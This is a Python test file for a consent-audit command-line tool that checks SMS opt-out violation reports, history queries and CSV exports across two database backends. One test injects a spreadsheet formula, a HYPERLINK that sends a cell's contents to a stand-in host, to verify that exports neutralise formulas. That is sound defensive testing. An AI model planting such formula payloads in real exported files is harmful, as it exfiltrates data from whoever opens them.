"""Consent audit on both backends, with callbacks arriving out of order: the answers follow
event_time, not arrival."""

from __future__ import annotations

import csv
import io
import os
import pty
import subprocess
import sys
from collections.abc import Iterator

import orjson
import pytest
from starlette.testclient import TestClient

from tests import payloads as p
from tests.conftest import shared_client
from tests.helpers import cli
from tests.integration.test_audit import (
    ARRIVAL,
    DAY,
    FREE_TEXT,
    NUMBER,
)
from tests.integration.test_queries import feed

# One worker posts the story the module's tests share (`fed_store`).
pytestmark = pytest.mark.xdist_group("e2e-audit")

# Arrival order is not event order: the opt-in arrives first, the STOP after the message it
# should have blocked, the earliest message last.


@pytest.fixture
def fed(client: TestClient) -> TestClient:
    return feed(client, ARRIVAL)


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def fed_store(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[TestClient, str]]:
    """ARRIVAL posted once per backend: the app and its store's URL, for this module's tests
    that only read it."""
    with shared_client(request.param, tmp_path_factory, request) as (client, url):
        yield feed(client, ARRIVAL), url


def audit_cli(database_url: str, *args: str) -> str:
    done = cli(database_url, "audit", *args, COLUMNS="200")
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_violations_report(fed_store: tuple[TestClient, str]) -> None:
    _, database_url = fed_store
    [violation] = orjson.loads(audit_cli(database_url, "violations", "--format", "json"))
    assert (violation["message_id"], violation["channel"], violation["identity"]) == (
        "B",
        "SMS",
        "46700000001",
    )
    assert violation["sent_at"] == f"{DAY}12:00:00.000000Z"
    assert violation["opted_out_since"] == f"{DAY}11:00:00.000000Z"
    assert violation["proof.fact"] == "KEYWORD_OPT_OUT"
    assert violation["proof.inbound_message_id"] == "IN-STOP"
    assert (
        orjson.loads(
            audit_cli(database_url, "violations", "--format", "json", "--since", f"{DAY}12:10:00Z")
        )
        == []
    )
    # Piped: tab-separated, every value whole (a drawn table would be cut to the width).
    header, row = csv.reader(io.StringIO(audit_cli(database_url, "violations")), "excel-tab")
    assert header[:3] == ["message_id", "channel", "identity"]
    assert dict(zip(header, row, strict=True))["proof.source_ref"] == violation["proof.source_ref"]
    # On a terminal: a table.
    assert "consent violations (1)" in on_a_terminal(database_url, "audit", "violations")


def on_a_terminal(database_url: str, *args: str) -> str:
    leader, follower = pty.openpty()
    done = subprocess.run(
        [sys.executable, "-m", "callback_ledger.cli", *args],
        env={**os.environ, "LEDGER_DATABASE_URL": database_url, "COLUMNS": "200"},
        stdout=follower,
        stderr=subprocess.PIPE,
        timeout=60,
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert done.returncode == 0, done.stderr
    return b"".join(chunks).decode(errors="replace")


def test_audit_history_at_and_export(fed_store: tuple[TestClient, str]) -> None:
    _, database_url = fed_store
    rows = list(
        csv.DictReader(
            io.StringIO(
                audit_cli(database_url, "history", "--contact", "CONTACT1", "--format", "csv")
            )
        )
    )
    assert [r["fact"] for r in rows] == ["KEYWORD_OPT_OUT", "OPT_IN_SUCCEEDED", "OPT_OUT_FAILED"]
    by_number = orjson.loads(
        audit_cli(
            database_url, "history", "--channel", "sms", "--identity", NUMBER, "--format", "json"
        )
    )
    assert len(by_number) == 3
    [at] = orjson.loads(
        audit_cli(
            database_url,
            "at",
            "--channel",
            "SMS",
            "--identity",
            NUMBER,
            "--at",
            f"{DAY}12:00:00Z",
            "--format",
            "json",
        )
    )
    assert (at["state"], at["decided_by.fact"]) == ("OPTED_OUT", "KEYWORD_OPT_OUT")
    lines = audit_cli(database_url, "export", "--since", f"{DAY}12:00:00Z").splitlines()
    assert [orjson.loads(line)["fact"] for line in lines] == ["OPT_IN_SUCCEEDED", "OPT_OUT_FAILED"]


# ---- keywords as regulators read them, HELP, and the review list -----------------------------


def test_audit_review_command(fed: TestClient, database_url: str) -> None:
    feed(fed, FREE_TEXT)
    items = orjson.loads(audit_cli(database_url, "review", "--format", "json"))
    assert [(i["inbound_message_id"], i["matched"]) for i in items] == [
        ("IN-FREE1", "stop+contact"),
        ("IN-FREE2", "phrase"),
    ]
    assert items[0]["callback_url"] == f"/callbacks/{items[0]['source_ref']}"
    rows = list(
        csv.DictReader(
            io.StringIO(
                audit_cli(database_url, "review", "--since", f"{DAY}12:15:00Z", "--format", "csv")
            )
        )
    )
    assert [(r["text"], r["identity"]) for r in rows] == [("Leave me alone!", "46700000002")]
    piped = audit_cli(database_url, "review", "--until", f"{DAY}12:15:00Z")
    [_, row] = list(csv.reader(io.StringIO(piped), "excel-tab"))
    assert "please stop texting me" in row


def test_audit_history_by_project(fed_store: tuple[TestClient, str]) -> None:
    _, database_url = fed_store

    def facts(project: str) -> list[str]:
        out = audit_cli(
            database_url,
            "history",
            "--channel",
            "sms",
            "--identity",
            NUMBER,
            "--project",
            project,
            "--format",
            "json",
        )
        return [row["fact"] for row in orjson.loads(out)]

    assert facts("PROJECT1") == ["KEYWORD_OPT_OUT", "OPT_IN_SUCCEEDED", "OPT_OUT_FAILED"]
    assert facts("ANOTHER") == []


# ---- what the violations report shows, in every output --------------------------------------


def test_violations_show_a_messages_metadata_as_its_page_does(
    fed_store: tuple[TestClient, str],
) -> None:
    fed, database_url = fed_store
    shown = fed.get("/messages/B").json()["metadata"]
    assert shown == "order-123"  # as sent (tests/payloads.py), not its keyed name
    [violation] = orjson.loads(audit_cli(database_url, "violations", "--format", "json"))
    assert violation["message_id"] == "B"
    assert violation["metadata"] == shown and "metadata_shown" not in violation
    [row] = csv.DictReader(io.StringIO(audit_cli(database_url, "violations", "--format", "csv")))
    assert row["metadata"] == shown
    report = fed.get("/console/compliance.csv")
    assert report.status_code == 200
    [exported] = csv.DictReader(io.StringIO(report.text))
    assert (exported["message_id"], exported["metadata"]) == ("B", shown)


def test_every_csv_the_cli_writes_neutralises_formulas(
    client: TestClient, database_url: str
) -> None:
    # A message whose metadata a spreadsheet would run, to a number that had opted out; an
    # inbound text that reads like a request to stop, starting with a formula.
    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    feed(
        client,
        [
            *ARRIVAL,
            p.delivery(
                "F", "QUEUED_ON_CHANNEL", "SMS", NUMBER, f"{DAY}12:40:00Z", metadata=formula
            ),
            p.inbound(
                "IN-F", "-please stop texting me", identity=NUMBER, event_time=f"{DAY}12:45:00Z"
            ),
        ],
    )
    [review] = [
        r
        for r in csv.DictReader(io.StringIO(audit_cli(database_url, "review", "--format", "csv")))
        if r["inbound_message_id"] == "IN-F"
    ]
    assert review["text"] == "'-please stop texting me"
    # Piped (tab-separated, which a spreadsheet opens alike): the same.
    piped = list(csv.reader(io.StringIO(audit_cli(database_url, "review")), "excel-tab"))
    assert ["'-please stop texting me" in row for row in piped].count(True) == 1
    # The compliance CSV and `audit violations`: one rule for both.
    [violation] = [
        r
        for r in csv.DictReader(
            io.StringIO(audit_cli(database_url, "violations", "--format", "csv"))
        )
        if r["message_id"] == "F"
    ]
    assert violation["metadata"] == "'" + formula
    [exported] = [
        r
        for r in csv.DictReader(io.StringIO(client.get("/console/compliance.csv").text))
        if r["message_id"] == "F"
    ]
    assert exported["metadata"] == violation["metadata"]
